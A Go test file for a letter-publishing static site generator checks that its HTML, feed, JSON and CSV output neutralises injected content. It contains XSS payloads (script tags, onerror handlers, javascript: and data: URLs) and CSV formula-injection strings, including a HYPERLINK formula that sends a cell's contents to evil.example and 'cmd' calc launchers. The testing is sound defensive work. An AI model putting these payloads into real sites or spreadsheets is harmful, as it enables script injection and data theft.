package build_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"fmt"
	"io"
	"maps"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"testing/fstest"

	"golang.org/x/net/html"

	"letterpress"
	"letterpress/internal/build"
	"letterpress/internal/publish"
	"letterpress/internal/render"
	"letterpress/internal/sitetest"
)

// payload is what every text field of the escaping test holds, after a
// marker that names the field: a script, an attribute break-out with an
// event handler, a script URL and a data URL.
func payload(marker string) string {
	return marker + ` <script>alert("` + marker + `")</script> "><img src=x onerror=alert(1)> ` +
		`' onmouseover='alert(1) javascript:alert(1) data:text/html;base64,PHNjcmlwdD4=`
}

// escapeField is one front matter or site.yaml field given the payload.
type escapeField struct {
	marker string // unique text that must reach the output somewhere
	file   string
	yaml   string // the field, with %s where the quoted payload goes
}

var escapeFields = []escapeField{
	{"SITETITLE", "site.yaml", "title: %s"},
	{"SITEDESC", "site.yaml", "description: %s"},
	{"TOPICLABEL", "site.yaml", "topics:\n  victim-care: %s\n  prevention: Prevention"},
	{"LETTERTITLE", "letter", "title: %s"},
	{"LETTERSUMMARY", "letter", "summary: %s"},
	{"ADDRESSEE", "to", "{org: northshire-pcc, name: %s, role: Commissioner}"},
	{"ADDRESSROLE", "to", "{org: eastshire-police, name: Chief Constable, role: %s}"},
	{"LETTERATTACH", "letter", "attachments: [{title: %s, file: files/annex.pdf}]"},
	{"REPLYTITLE", "response", "title: %s"},
	{"REPLYSUMMARY", "response", "summary: %s"},
	{"REPLYATTACH", "response", "attachments: [{title: %s, file: files/annex.pdf}]"},
	{"WITHHELD", "withheld", "withheld: %s"},
	{"REPORTTITLE", "report", "title: %s"},
	{"REPORTSUMMARY", "report", "summary: %s"},
	{"PUBLISHER", "report", "publisher: %s"},
	{"AUTHOR", "report", "authors: [%s]"},
	{"REPORTURL", "report", "url: %s"}, // https:// is put before the payload
	{"ORGNAME", "org", "name: %s"},
	{"ORGTYPE", "org", "type: %s"},
	{"REGION", "org", "region: %s"},
	{"HOLDER", "org", "holder: %s"},
	{"ADDRESSLINE", "org", "address: [%s, Northtown]"},
	{"ORGURL", "org", "url: %s"},
	{"PAGETITLE", "page", "title: %s"},
	{"PAGESUMMARY", "page", "summary: %s"},
}

// escapeSite is the check cases' base site with every field of
// escapeFields set to its payload, documents whose body links to script
// and data URLs, and names that would start a spreadsheet formula.
func escapeSite(t *testing.T) fstest.MapFS {
	fsys := sitetest.Load(t, "testdata/check/_base.txtar").FS
	parts := map[string][]string{}
	for _, f := range escapeFields {
		v := payload(f.marker)
		if strings.HasSuffix(f.marker, "URL") {
			v = "https://example.org/" + v
		}
		parts[f.file] = append(parts[f.file], fmt.Sprintf(f.yaml, strconv.Quote(v)))
	}
	doc := func(fields ...string) []byte {
		return []byte("---\n" + strings.Join(fields, "\n") + "\n---\n")
	}
	body := "Dear Commissioner,\n\nSee [this](javascript:alert(1)), [that](data:text/html;base64,PHNjcmlwdD4=), " +
		"[the other](JaVaScRiPt:alert(1)) and ![an image](javascript:alert(1)).\n\n<script>alert(1)</script><img src=x onerror=alert(1)>\n"
	fsys["site.yaml"].Data = []byte("base_url: https://example.org/\nowner: office\n" + strings.Join(parts["site.yaml"], "\n") + "\n")
	fsys["static/files/annex.pdf"] = &fstest.MapFile{Data: []byte("%PDF-1.4")}
	fsys["content/letters/2021/2021-05-01-escape.md"] = &fstest.MapFile{Data: append(doc(append(parts["letter"],
		"date: 2021-05-01", "to: ["+strings.Join(parts["to"], ", ")+"]", "cites: [escape-report]", "topics: [victim-care]")...), body...)}
	fsys["content/responses/2021/2021-05-10-escape.md"] = &fstest.MapFile{Data: append(doc(append(parts["response"],
		"date: 2021-05-10", "from: northshire-pcc", "in_reply_to: 2021-05-01-escape")...), body...)}
	fsys["content/responses/2021/2021-05-11-withheld.md"] = &fstest.MapFile{Data: doc(append(parts["withheld"],
		"date: 2021-05-11", "from: eastshire-police", "in_reply_to: 2021-05-01-escape")...)}
	fsys["content/reports/escape-report.md"] = &fstest.MapFile{Data: append(doc(parts["report"]...), body...)}
	fsys["content/organisations/escape-org.md"] = &fstest.MapFile{Data: append(doc(parts["org"]...), body...)}
	fsys["content/pages/escape.md"] = &fstest.MapFile{Data: append(doc(parts["page"]...), body...)}
	// Text that a spreadsheet would run as a formula.
	for i, f := range csvFormulas {
		fsys[fmt.Sprintf("content/organisations/formula-%d.md", i)] = &fstest.MapFile{Data: doc("name: " + strconv.Quote(f))}
		fsys[fmt.Sprintf("content/letters/2021/2021-05-%02d-formula-%d.md", i+12, i)] = &fstest.MapFile{Data: doc(
			"title: "+strconv.Quote(f), fmt.Sprintf("date: 2021-05-%02d", i+12), fmt.Sprintf("to: [formula-%d]", i))}
	}
	return fsys
}

var csvFormulas = []string{
	`=HYPERLINK("https://evil.example/?"&A1,"Click")`, `+1+cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`, "\t=1+1", "\r=1+1",
}

// TestEscaping builds a site whose every text field holds a script, an
// attribute break-out, a script URL and a data URL, and checks every file
// of the output through a parser of its format: no HTML page, Atom feed,
// JSON file or CSV file turns any of it into markup or a live link, every
// field reaches the output as text, and no CSV cell starts a formula.
func TestEscaping(t *testing.T) {
	out := publish.NewMemory()
	_, errs := build.Build(escapeSite(t), letterpress.Defaults, out, build.Options{Now: catalogueNow}, render.Options{})
	if errs.HasErrors(false) {
		t.Fatalf("the site does not build:\n%v", errs)
	}
	// seen collects every piece of text the output shows, as its parser
	// reads it.
	var seen strings.Builder
	counts := map[string]int{}
	for _, name := range out.Names() {
		data, _ := out.Get(name)
		switch {
		case strings.HasSuffix(name, ".html"):
			counts["html"]++
			if msg := liveMarkup(data); msg != "" {
				t.Errorf("%s: %s", name, msg)
			}
			collectHTML(t, name, data, &seen)
		case strings.HasSuffix(name, ".xml"):
			counts["xml"]++
			xmlCheck(t, name, data, &seen)
		case strings.HasSuffix(name, ".json"):
			counts["json"]++
			jsonCheck(t, name, data, &seen)
		case strings.HasSuffix(name, ".csv"):
			counts["csv"]++
			csvCheck(t, name, data, &seen)
		}
	}
	for _, kind := range []string{"html", "xml", "json", "csv"} {
		if counts[kind] == 0 {
			t.Errorf("no %s file in the output", kind)
		}
	}
	all := seen.String()
	for _, f := range escapeFields {
		if !strings.Contains(all, payload(f.marker)) {
			t.Errorf("%s (%s): the text of the field is not in the output as text", f.marker, f.file)
		}
	}
	for _, f := range csvFormulas {
		// encoding/csv drops a carriage return inside a cell (it writes
		// CRLF line endings): without the quote, "\r=1+1" would be a formula.
		if !strings.Contains(all, "'"+strings.ReplaceAll(f, "\r", "")) {
			t.Errorf("formula %q is not in a CSV file with a quote before it", f)
		}
	}
}

// collectHTML checks that the page parses and adds its text and attribute
// values to seen.
func collectHTML(t *testing.T, name string, data []byte, seen *strings.Builder) {
	doc, err := html.Parse(bytes.NewReader(data))
	if err != nil {
		t.Errorf("%s: %v", name, err)
		return
	}
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		switch n.Type {
		case html.TextNode:
			seen.WriteString(n.Data + "\n")
		case html.ElementNode:
			if n.Data == "img" && attr(n, "src") == "x" {
				t.Errorf("%s: the payload's <img> became an element", name)
			}
			for _, a := range n.Attr {
				seen.WriteString(a.Val + "\n")
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(doc)
}

// xmlCheck reads a feed or sitemap: it must be well-formed, hold no element
// from the payload, and no link to a script URL.
func xmlCheck(t *testing.T, name string, data []byte, seen *strings.Builder) {
	dec := xml.NewDecoder(bytes.NewReader(data))
	for {
		tok, err := dec.Token()
		if err == io.EOF {
			return
		}
		if err != nil {
			t.Errorf("%s: not well-formed XML: %v", name, err)
			return
		}
		switch tok := tok.(type) {
		case xml.StartElement:
			if n := tok.Name.Local; n == "script" || n == "img" {
				t.Errorf("%s: <%s> element from the payload", name, n)
			}
			for _, a := range tok.Attr {
				if a.Name.Local == "href" && !strings.HasPrefix(a.Value, "https://example.org/") {
					t.Errorf("%s: link to %q", name, a.Value)
				}
				seen.WriteString(a.Value + "\n")
			}
		case xml.CharData:
			seen.Write(tok)
			seen.WriteString("\n")
		}
	}
}

var jsonURLKey = regexp.MustCompile(`(^|_)url$`)

// jsonCheck reads a JSON file (open data, JSON Feed, search index): it
// must be valid, every URL it gives must be an http(s) address or a path of
// the site, and any HTML it carries (content_html) must be inert.
func jsonCheck(t *testing.T, name string, data []byte, seen *strings.Builder) {
	var v any
	if err := json.Unmarshal(data, &v); err != nil {
		t.Errorf("%s: not valid JSON: %v", name, err)
		return
	}
	var walk func(key string, v any)
	walk = func(key string, v any) {
		switch v := v.(type) {
		case map[string]any:
			for _, k := range slices.Sorted(maps.Keys(v)) {
				walk(k, v[k])
			}
		case []any:
			for _, c := range v {
				walk(key, c)
			}
		case string:
			seen.WriteString(v + "\n")
			if jsonURLKey.MatchString(key) || key == "file" || key == "home_page_url" || key == "feed_url" {
				if !strings.HasPrefix(v, "https://") && !strings.HasPrefix(v, "http://") && (!strings.HasPrefix(v, "/") || strings.HasPrefix(v, "//")) {
					t.Errorf("%s: %s is %q, neither a web address nor a path of the site", name, key, v)
				}
			}
			if strings.HasSuffix(key, "_html") {
				if msg := liveMarkup([]byte(v)); msg != "" || strings.Contains(v, "<script") {
					t.Errorf("%s: %s holds markup: %s", name, key, v)
				}
			}
		}
	}
	walk("", v)
}

var csvNumber = regexp.MustCompile(`^-?[0-9]+(\.[0-9]+)?$`)

// csvCheck reads a CSV file as a spreadsheet would: no cell may start with
// a character that begins a formula (=, +, -, @, tab or carriage return),
// numbers aside.
func csvCheck(t *testing.T, name string, data []byte, seen *strings.Builder) {
	r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte("\ufeff"))))
	rows, err := r.ReadAll()
	if err != nil {
		t.Errorf("%s: not valid CSV: %v", name, err)
		return
	}
	for i, row := range rows {
		for j, cell := range row {
			seen.WriteString(cell + "\n")
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !csvNumber.MatchString(cell) {
				t.Errorf("%s: row %d, column %d starts a formula: %q", name, i+1, j+1, cell)
			}
		}
	}
}

// TestEscapingRefusedURLs: a report's or organisation's url that is a
// script or data URL is an error, never a link.
func TestEscapingRefusedURLs(t *testing.T) {
	fsys := sitetest.Load(t, "testdata/check/_base.txtar").FS
	fsys["content/reports/bad-url.md"] = &fstest.MapFile{Data: []byte("---\ntitle: R\nurl: \"javascript:alert(1)\"\n---\n")}
	fsys["content/organisations/bad-url.md"] = &fstest.MapFile{Data: []byte("---\nname: O\nurl: \" data:text/html,<script>alert(1)</script>\"\n---\n")}
	expect(t, problems(t, fsys, false),
		"content/organisations/bad-url.md:3:6: url \"data:text/html,<script>alert(1)</script>\" must be a web address starting with https://\n"+
			"content/reports/bad-url.md:3:6: url \"javascript:alert(1)\" must be a web address starting with https://\n")
}
